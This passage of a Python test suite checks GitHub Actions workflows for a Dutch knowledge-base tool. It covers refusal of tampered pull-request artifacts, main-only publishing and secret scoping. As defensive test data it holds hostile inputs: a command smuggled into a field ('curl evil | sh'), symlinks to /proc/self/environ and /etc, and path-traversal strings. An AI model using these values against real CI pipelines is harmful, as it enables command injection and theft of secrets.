        (artifact / relative).parent.mkdir(parents=True, exist_ok=True)
        (artifact / relative).symlink_to(target)

    return change


def text(relative: str, value: str):
    return lambda artifact: (artifact / relative).write_text(value, encoding="utf-8")


# What a pull request's own code could upload instead of its content: each refuses the whole artifact.
TAMPERED = {
    "engine code": put("bestanden/wwidw_build/review/markdown.py", b"print('pwned')\n"),
    "a workflow": put("bestanden/.github/workflows/x.yml"),
    "a file beside the content": put("bestanden/content/x.md"),
    "a hidden description": put("bestanden/content/praktijken/.x.md"),
    "a dotted folder": put("bestanden/content/praktijken/.git/config"),
    "a name with a space": put("bestanden/content/praktijken/a b.md"),
    "another registry file": put("bestanden/content/taxonomie/../organisaties.yml/x"),
    "a report instead of content": put("review.md", b"Alles is goedgekeurd.\n"),
    "a symlink to a secret": link("bestanden/content/praktijken/x.md", "/proc/self/environ"),
    "a symlinked folder": link("bestanden/content/bijlagen", "/etc"),
    "a fifo": lambda a: os.mkfifo(a / "bestanden/content/praktijken/x.md"),
    "a symlink as pr-nummer": lambda a: (
        (a / "pr-nummer").unlink(),
        (a / "pr-nummer").symlink_to("/etc/hostname"),
    ),
    "a command as pr-nummer": text("pr-nummer", "7; curl evil | sh\n"),
    "a zero pr-nummer": text("pr-nummer", "0\n"),
    "a huge pr-nummer": text("pr-nummer", "12345678901\n"),
    "a deletion outside the content": text("verwijderd", "wwidw_build/review.py\n"),
    "a deletion climbing out": text("verwijderd", "content/praktijken/../../pyproject.toml\n"),
    "changed and deleted at once": text(
        "verwijderd", "content/praktijken/wijkconcierge-de-linde.md\n"
    ),
    "a file over the size limit": put(
        "bestanden/content/bijlagen/groot.pdf", b"0" * (16 * 1024 * 1024 + 1)
    ),
}


@pytest.mark.parametrize("case", TAMPERED)
def test_a_tampered_artifact_is_refused_whole(case, packed, pull_request, tmp_path):
    basis = default_branch(pull_request, tmp_path)
    artifact = tampered(packed, tmp_path, TAMPERED[case])
    report = tmp_path / "wwidw-reactie"
    result = pr_content(
        "apply",
        "--artifact",
        artifact,
        "--content-folder",
        "content",
        "--checkout",
        basis,
        "--report",
        report,
    )
    assert result.returncode == 1 and "::error::apply: refused:" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert git(basis, "status", "--porcelain", "--ignored") == ""  # nothing written or deleted
    assert not report.exists()


def test_a_pull_request_without_content_changes_still_gets_its_comment(pull_request, tmp_path):
    """An artifact leaves out empty folders: only pr-nummer arrives when no content changed."""
    basis = default_branch(pull_request, tmp_path)
    artifact = tmp_path / "wwidw-inhoud"
    artifact.mkdir()
    (artifact / "pr-nummer").write_text("12\n", encoding="utf-8")
    result = pr_content(
        "apply", "--artifact", artifact, "--content-folder", "content", "--checkout", basis,
        "--report", tmp_path / "r",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "r" / "pr-nummer").read_text(encoding="utf-8") == "12\n"
    assert git(basis, "status", "--porcelain") == ""


def test_nothing_is_written_through_a_symlink_in_the_checkout(packed, pull_request, tmp_path):
    basis = default_branch(pull_request, tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(basis / "content" / "praktijken")
    (basis / "content" / "praktijken").symlink_to(elsewhere)
    result = pr_content(
        "apply",
        "--artifact",
        packed,
        "--content-folder",
        "content",
        "--checkout",
        basis,
        "--report",
        tmp_path / "r",
    )
    assert result.returncode == 1 and "not a plain folder" in result.stderr
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize(
    "path, prefix, expected",
    [
        ("praktijken/a.md", "", True),
        ("praktijken/sub/a.md", "", True),
        ("bijlagen/plan.pdf", "", True),
        ("organisaties.yml", "", True),
        ("taxonomie/themas.yml", "", True),
        ("content/archetypen/a.md", "content", True),
        ("archetypen/a.md", "content", False),
        ("praktijken", "", False),
        ("README.md", "", False),
        ("bronnen.yml", "", False),
        (".github/workflows/controle.yml", "", False),
        ("praktijken/../wwidw_build/x.py", "", False),
        ("praktijken//a.md", "", False),
        ("/etc/passwd", "", False),
        ("taxonomie/sub/themas.yml", "", False),
        ("contentx/praktijken/a.md", "content", False),
    ],
)
def test_the_allow_list_of_content_paths(path, prefix, expected):
    spec = importlib.util.spec_from_file_location("pr_content", SCRIPT)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert module.allowed(path, prefix) is expected


def test_deployments_never_overlap_or_get_cut_off():
    publiceren = workflow("publiceren.yml")
    assert publiceren["on"]["push"]["branches"] == ["main"]
    assert publiceren["concurrency"] == {"group": "publiceren", "cancel-in-progress": False}


# Item 13: publishing runs from main only, also when started by hand on another branch.

PUBLISHING = ["wwidw-publiceren-openbaar.yml", "wwidw-publiceren-beschermd.yml"]
ON_MAIN = "github.ref == 'refs/heads/main'"


def needs(job: dict) -> list[str]:
    value = job.get("needs", [])
    return [value] if isinstance(value, str) else value


@pytest.mark.parametrize("name", PUBLISHING)
def test_every_publishing_job_runs_from_main_only(name, tmp_path):
    """A first job fails on any other ref; every other job needs it and is itself limited to main."""
    all_jobs = workflow(name)["jobs"]
    guard = all_jobs["alleen-main"]
    assert "if" not in guard and guard["permissions"] == {} and not needs(guard)
    (check,) = guard["steps"]
    assert check["env"] == {"REF": "${{ github.ref }}"}
    for ref, code in (("refs/heads/main", 0), ("refs/heads/feature", 1), ("refs/tags/main", 1)):
        result = subprocess.run(
            ["bash", "-e", "-c", check["run"]],
            env={"PATH": os.environ["PATH"], "REF": ref},
            capture_output=True,
            text=True,
        )
        assert result.returncode == code, (ref, result.stdout)
    for job_id, job in all_jobs.items():
        if job_id == "alleen-main":
            continue
        assert job["if"].startswith("${{ " + ON_MAIN), (name, job_id)
        reached, todo = set(), needs(job)
        while todo:
            reached.add(todo[0])
            todo = todo[1:] + needs(all_jobs[todo[0]])
        assert "alleen-main" in reached, (name, job_id)


def test_every_publishing_caller_calls_a_workflow_limited_to_main(tmp_path):
    registry = load_content(REPO / "content")[0].registry
    callers = [workflow("publiceren.yml")]
    for tier in TIERS:
        spec = source_repo.SourceSpec(
            tier,
            source_repo.PLACEHOLDER_ENGINE_URL,
            ENGINE_REF,
            source_repo.PLACEHOLDER_PARTNERS_URL if tier.startswith("organisatie:") else None,
        )
        files = source_repo.scaffold(spec, registry, REPO / "content")
        callers.append(yaml.safe_load(files[".github/workflows/publiceren.yml"]))
    for caller in callers:
        on = caller.get("on", caller.get(True))
        assert "workflow_dispatch" in on and on["push"]["branches"] == ["main"]
        for job in caller["jobs"].values():
            assert re.search(r"/\.github/workflows/(wwidw-publiceren-[a-z]+\.yml)", job["uses"])
            assert job["uses"].split("/")[-1].split("@")[0] in PUBLISHING


def test_the_protected_deploy_is_one_audience_and_skipped_without_its_settings():
    reusable = workflow("wwidw-publiceren-beschermd.yml")
    build, deploy = reusable["jobs"]["bouw"], reusable["jobs"]["publiceer"]
    for job in (build, deploy):
        assert job["if"] == "${{ " + ON_MAIN + " && inputs.host != '' }}"
    assert "environment" not in build and build["permissions"] == {"contents": "read"}
    assert deploy["environment"] == {"name": "beschermd"} and deploy["permissions"] == {}
    for _, job_id, other, _ in jobs():
        assert "secrets." not in str(other.get("if", "")), job_id  # not available at job level
    check = build["steps"][0]
    assert r"^(partners|organisatie:[a-z0-9]+(-[a-z0-9]+)*)$" in check["run"]  # never openbaar
    assert build["outputs"] == {"map": "${{ steps.publiek.outputs.map }}"}
    made = next(s for s in build["steps"] if "wwidw build" in s.get("run", ""))
    assert '--audience "$AUDIENCE"' in made["run"] and "alle" not in made["run"]
    # The deploy job only downloads that one folder and pushes it.
    assert [s.get("uses", "run").split("@")[0] for s in deploy["steps"]] == [
        "run",
        "actions/download-artifact",
        "run",
    ]
    download, push = deploy["steps"][1:]
    assert download["with"] == {
        "name": "beschermde-site",
        "path": "site/${{ needs.bouw.outputs.map }}",
    }
    for step in deploy["steps"][1:]:
        assert step["if"] == "${{ steps.instellingen.outputs.klaar == 'true' }}"
    assert '-- "site/$FOLDER/" "$DEPLOY_USER@$DEPLOY_HOST:"' in push["run"]
    assert push["env"]["FOLDER"] == "${{ needs.bouw.outputs.map }}"
    assert set(reusable["on"]["workflow_call"]["secrets"]) == {"BRONNEN_TOKEN", "BESCHERMD_SSH_KEY"}


def test_the_form_workflow_runs_on_the_label_and_keeps_the_issue_out_of_scripts():
    formulier = workflow("formulier.yml")
    assert formulier["on"] == {"issues": {"types": ["labeled"]}}
    assert formulier["jobs"]["pull-request"]["with"] == {
        "sources": "content",  # this repository's form writes into its own (public) source only
        "descriptions-folder": "content/praktijken",
    }
    reusable = workflow("wwidw-formulier.yml")["jobs"]
    job, opener = reusable["schrijf"], reusable["pull-request"]
    assert f"github.event.label.name == '{TRIGGER_LABEL}'" in job["if"]
    assert job["permissions"] == {"contents": "read"} and opener["needs"] == "schrijf"
    write = next(s for s in job["steps"] if "wwidw form " in s.get("run", ""))
    assert write["env"]["ISSUE_BODY"] == "${{ github.event.issue.body }}"
    assert """printf '%s' "$ISSUE_BODY" > "$RUNNER_TEMP/issue.md\"""" in write["run"]
    assert write["env"]["FOLDER"] == "${{ inputs.descriptions-folder }}"
    assert 'git ls-files -z --others --exclude-standard -- "$FOLDER"' in write["run"]
    opened = next(s for s in opener["steps"] if "gh pr create" in s.get("run", ""))
    assert (
        opened["env"]["ISSUE_TITLE"] == "${{ github.event.issue.title }}"
        and '"$ISSUE_TITLE"' in opened["run"]
    )
    # Only one regular file with a description's name, new in the folder, is committed.
    for part in (
        r'[[ "$name" =~ ^[a-z0-9]+(-[a-z0-9]+)*\.md$ ]]',
        '[ -L "${found[0]}" ] || [ ! -f "${found[0]}" ]',
        '[ -e "$target" ] || [ -L "$target" ]',
        'git add -- "$target"',
        '--diff-filter=A | wc -l)" -eq 1',
    ):
        assert part in opened["run"], part


# Item 14.5: a weekly issue lists what needs attention in the public source, and nothing else.

MAINTENANCE_STEP = "Create or update the onderhoud issue"
FAKE_GH = """#!/bin/bash
# A stand-in for the GitHub CLI (GitHub is not reachable from the tests): it logs its arguments and
# answers the two list calls the step makes from the environment.
printf '%s\\n' "$*" >> "$GH_LOG"
case "$1 $2" in
  "label list") printf '%s\\n' "$FAKE_LABELS" ;;
  "issue list") printf '%s\\n' "$FAKE_ISSUES" ;;
esac
"""


def test_the_maintenance_issue_is_made_weekly_from_the_public_source_alone():
    from conftest import wwidw

    from wwidw_build.maintenance_report import MARKER

    onderhoud = workflow("onderhoud.yml")
    assert set(onderhoud["on"]) == {"schedule", "workflow_dispatch"}
    (schedule,) = onderhoud["on"]["schedule"]
    assert re.fullmatch(r"\d+ \d+ \* \* [0-6]", schedule["cron"])  # once a week
    assert onderhoud["concurrency"] == {"group": "onderhoud", "cancel-in-progress": False}
    job = onderhoud["jobs"]["onderhoud"]
    assert job["with"] == {"sources": "content"} and "secrets" not in job  # the public source alone
    assert job["permissions"] == {"contents": "read", "issues": "write"}
    reusable = workflow("wwidw-onderhoud.yml")["jobs"]
    assert reusable["lijst"]["permissions"] == {"contents": "read"}
    assert reusable["issue"]["permissions"] == {"issues": "write"}
    assert reusable["issue"]["needs"] == "lijst"
    made = next(s for s in reusable["lijst"]["steps"] if "wwidw maintenance" in s.get("run", ""))
    command = '.venv/bin/wwidw maintenance "$FLAG" "$SOURCES" --format markdown'
    assert command in made["run"]
    # The flag the install step picks for the folder `content`: `wwidw maintenance --content content`.
    first = install_script("wwidw-onderhoud.yml", "lijst").splitlines()[0]
    picked = subprocess.run(
        ["bash", "-c", first + '\necho "$flag"'],
        env={"PATH": os.environ["PATH"], "SOURCES": "content"},
        cwd=REPO,
        capture_output=True,
        text=True,
    )
    assert picked.stdout.strip() == "--content"
    listed = wwidw("maintenance", "--content", "content", "--format", "markdown")
    assert listed.returncode == 0 and listed.stdout.startswith(MARKER + "\n"), listed.stderr
    assert "voorbeeldbronnen" not in listed.stdout
    step = next(s for s in reusable["issue"]["steps"] if s.get("name") == MAINTENANCE_STEP)
    assert step["env"] == {"GH_TOKEN": "${{ github.token }}", "GH_REPO": "${{ github.repository }}"}


def run_maintenance_step(tmp_path: Path, text: str, issues: list, labels: list[str]):
    """The issue job's script as the runner runs it, against FAKE_GH: (result, gh calls, body file)."""
    import json

    step = next(
        s
        for s in workflow("wwidw-onderhoud.yml")["jobs"]["issue"]["steps"]
        if s.get("name") == MAINTENANCE_STEP
    )
    runner_temp = tmp_path / "runner"
    (runner_temp / "wwidw-onderhoud").mkdir(parents=True)
    (runner_temp / "wwidw-onderhoud" / "onderhoud.md").write_text(text, encoding="utf-8")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "gh").write_text(FAKE_GH, encoding="utf-8")
    (bin_dir / "gh").chmod(0o755)
    log = tmp_path / "gh.log"
    env = {
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "RUNNER_TEMP": str(runner_temp),
        "GH_LOG": str(log),
        "FAKE_ISSUES": json.dumps(issues),
        "FAKE_LABELS": "\n".join(labels),
    }
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    calls = log.read_text(encoding="utf-8").splitlines() if log.exists() else []
    return result, calls, runner_temp / "body.md"


def test_the_maintenance_issue_is_updated_in_place_or_created_once(tmp_path):
    from wwidw_build.maintenance_report import MARKER

    text = f"{MARKER}\nStand op 2026-12-02.\n"
    issues = [
        {"number": 3, "body": "Iets anders, met het label"},
        {"number": 9, "body": f"{MARKER}\noud"},
        {"number": 5, "body": f"{MARKER}\nouder"},
    ]
    result, calls, body = run_maintenance_step(tmp_path / "bestaat", text, issues, ["onderhoud"])
    assert result.returncode == 0, result.stderr
    assert [c.split()[:2] for c in calls] == [
        ["label", "list"],
        ["issue", "list"],
        ["issue", "edit"],
    ]
    assert "--state open --label onderhoud" in calls[1]
    assert calls[2] == f"issue edit 5 --body-file {body}"  # the oldest one with the marker
    assert body.read_text(encoding="utf-8") == text
    result, calls, body = run_maintenance_step(tmp_path / "nieuw", text, issues[:1], ["bug"])
    assert result.returncode == 0, result.stderr
    assert [c.split()[:2] for c in calls] == [
        ["label", "list"],
        ["label", "create"],
        ["issue", "list"],
        ["issue", "create"],
    ]
    assert calls[1].startswith("label create onderhoud ")
    assert calls[3].endswith(f"--label onderhoud --body-file {body}")


def test_a_long_maintenance_list_is_cut_at_a_line_end_and_a_foreign_file_is_refused(tmp_path):
    from wwidw_build.maintenance_report import MARKER

    line = "- [ ] `praktijken/x.md` — " + "x" * 70 + " @iemand\n"
    text = MARKER + "\n" + line * 1000
    result, calls, body = run_maintenance_step(tmp_path / "lang", text, [], ["onderhoud"])
    assert result.returncode == 0, result.stderr
    cut = body.read_text(encoding="utf-8")
    kept, note = cut.split("\n\n*(Ingekort", 1)
    assert len(cut.encode()) < 60_100 and note
    assert kept.split("\n")[0] == MARKER
    assert all(part == line.rstrip("\n") for part in kept.split("\n")[1:])
    result, calls, _ = run_maintenance_step(tmp_path / "vreemd", "Iets anders\n", [], ["onderhoud"])
    assert result.returncode == 1 and calls == []


# The workflows `wwidw source new` writes, linted like ours and against the reusable workflows.


@pytest.fixture(scope="module", params=TIERS)
def scaffolded(request, tmp_path_factory) -> Path:
    """A source repository of each tier, as `wwidw source new` writes it."""
    registry = load_content(REPO / "content")[0].registry
    partners = source_repo.PLACEHOLDER_PARTNERS_URL if request.param != "partners" else None
    spec = source_repo.SourceSpec(
        request.param,
        source_repo.PLACEHOLDER_ENGINE_URL,
        ENGINE_REF,
        partners if request.param.startswith("organisatie:") else None,
    )
    target = tmp_path_factory.mktemp("bron") / "repo"
    source_repo.write(target, source_repo.scaffold(spec, registry, REPO / "content"))
    return target


def scaffolded_workflows(target: Path) -> list[Path]:
    return sorted((target / ".github" / "workflows").glob("*.yml"))


def project(root: Path) -> Path:
    """``root``/.github/workflows in a git repository: actionlint resolves `./.github/workflows/...`
    calls against the project it finds by its .git (without one it skips them silently)."""
    folder = root / ".github" / "workflows"
    folder.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(root)], check=True, capture_output=True)
    return folder


def test_actionlint_reports_nothing_on_a_scaffolded_repository(scaffolded):
    result = actionlint(scaffolded_workflows(scaffolded), cwd=scaffolded)
    assert result.returncode == 0 and not result.stdout.strip(), result.stdout + result.stderr


def test_zizmor_reports_nothing_on_a_scaffolded_repository(scaffolded):
    result = zizmor(scaffolded)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings to report" in result.stdout, result.stdout


def test_a_scaffolded_repository_calls_the_reusable_workflows_as_they_are(scaffolded, tmp_path):
    """actionlint cannot fetch a remote reusable workflow, so the calls are pointed at local copies of
    ours: every input, secret and permission a source repository passes must fit what they declare."""
    folder = project(tmp_path)
    for path in REUSABLE:
        (folder / path.name).write_bytes(path.read_bytes())
    engine = re.escape(source_repo.github_repository(source_repo.PLACEHOLDER_ENGINE_URL))
    pinned = re.compile(rf"uses: {engine}/\.github/workflows/(wwidw-[a-z-]+\.yml)@{ENGINE_REF}")
    callers = []
    for path in scaffolded_workflows(scaffolded):
        text, count = pinned.subn(r"uses: ./.github/workflows/\1", path.read_text(encoding="utf-8"))
        assert count == 1, path.name
        callers.append(folder / f"bron-{path.name}")
        callers[-1].write_text(text, encoding="utf-8")
    result = actionlint(sorted(folder.glob("*.yml")), cwd=tmp_path)
    assert result.returncode == 0 and not result.stdout.strip(), result.stdout + result.stderr


def test_the_lint_of_a_scaffolded_call_can_fail(scaffolded, tmp_path):
    """The check above catches a call that grants too little or passes an unknown input."""
    folder = project(tmp_path)
    (folder / "wwidw-review-reactie.yml").write_bytes(
        (REPO / ".github/workflows/wwidw-review-reactie.yml").read_bytes()
    )
    text = (scaffolded / ".github/workflows/review-reactie.yml").read_text(encoding="utf-8")
    text = re.sub(r"uses: \S+/(wwidw-[a-z-]+\.yml)@\S+", r"uses: ./.github/workflows/\1", text)
    (folder / "caller.yml").write_text(text.replace("pull-requests: write", ""), encoding="utf-8")
    result = actionlint(sorted(folder.glob("*.yml")), cwd=tmp_path)
    assert result.returncode != 0 and 'requires "pull-requests: write"' in result.stdout


def test_a_scaffolded_repositorys_pull_request_checks_hold_no_secret_but_one_token(scaffolded):
    controle = load(scaffolded / ".github/workflows/controle.yml")
    assert list(controle["on"]) == ["pull_request"]
    job = controle["jobs"]["review"]
    assert job.get("secrets", {}) in ({}, {"sources-token": "${{ secrets.BRONNEN_TOKEN }}"})
    publiceren = load(scaffolded / ".github/workflows/publiceren.yml")
    assert "pull_request" not in publiceren["on"] and publiceren["on"]["push"]["branches"] == [
        "main"
    ]


def test_the_pre_commit_hook_validates_content():
    config = yaml.safe_load((REPO / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    hook = config["repos"][0]["hooks"][0]
    assert config["repos"][0]["repo"] == "local" and "wwidw validate" in hook["entry"]
    assert hook["pass_filenames"] is False and hook["files"] == "^content/"


@pytest.mark.parametrize(
    "path",
    [
        "/schemas/",
        "/theme/",
        "/.github/",
        "/mkdocs.yml",
        "/content/organisaties.yml",
        "/content/taxonomie/",
        "/bronnen.yml",
    ],
)
def test_codeowners_guard_the_platform(path):
    owners = dict(
        line.split()
        for line in (REPO / ".github" / "CODEOWNERS").read_text().splitlines()
        if line.strip() and not line.startswith("#")
    )
    assert owners[path] == "@platform31/kennisbank-beheer"
    assert (REPO / path.strip("/")).exists()


def test_the_pull_request_template_is_a_dutch_checklist():
    text = (REPO / ".github" / "PULL_REQUEST_TEMPLATE.md").read_text(encoding="utf-8")
    assert text.count("- [ ]") >= 5
    for word in (
        "persoonsgegevens",
        "zichtbaarheid",
        "concept: true",
        "wwidw validate",
        "geschiedenis",
    ):
        assert word in text, word


def test_a_long_review_comment_is_cut_at_a_line_end():
    """The comment step's own truncation, run in node: a cut inside a line could split a code span
    and turn the contributor text it held into links and mentions."""
    script = next(
        step["with"]["script"]
        for _, job_id, step in steps()
        if job_id == "reactie" and "github-script" in step.get("uses", "")
    )
    limit = re.search(r"const LIMIT = \d+;", script).group(0)
    start = script.index("if (report.length > LIMIT)")
    block = script[start : script.index("\n}\n", start) + 3]
    line = "- `" + "x" * 70 + " https://example.com @iemand`\n"
    report = line * (60_000 // len(line) + 5)
    program = f"{limit}\nlet report = require('fs').readFileSync(0, 'utf8');\n{block}\nprocess.stdout.write(report);"
    result = run(["node", "-e", program], stdin=report)
    assert result.returncode == 0, result.stderr
    kept = result.stdout.split("\n\n*(Ingekort")[0]
    assert kept and len(kept) <= 60_000
    assert all(text == line.rstrip("\n") for text in kept.rstrip("\n").split("\n"))
